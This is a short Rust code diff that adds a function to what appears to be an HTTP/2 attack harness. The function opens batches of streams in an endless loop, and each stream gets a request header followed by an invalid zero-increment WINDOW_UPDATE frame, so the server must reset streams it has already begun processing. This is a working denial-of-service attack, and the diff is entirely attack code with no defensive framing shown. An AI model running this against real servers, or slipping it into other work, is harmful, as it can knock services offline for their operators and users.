@@ -78,6 +78,23 @@ pub(crate) fn rapid_resets(attacker: &Attacker) {
     });
 }
 
+/// Requests that the server has to break off, because a frame for each of them is invalid: its room grows by
+/// nothing.
+pub(crate) fn made_you_reset(attacker: &Attacker) {
+    let head = request("GET", "/hold/20000");
+    listening(attacker, |hostile| {
+        loop {
+            let mut many = Vec::new();
+            for _ in 0..100 {
+                let stream = hostile.next_stream();
+                many.extend(frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &head));
+                many.extend(frame(kind::WINDOW_UPDATE, flag::NONE, stream, &[0; 4]));
+            }
+            hostile.send(&many)?;
+        }
+    });
+}
+
 /// A head that does not end, without a byte more.
 pub(crate) fn empty_continuations(attacker: &Attacker) {
     listening(attacker, |hostile| {
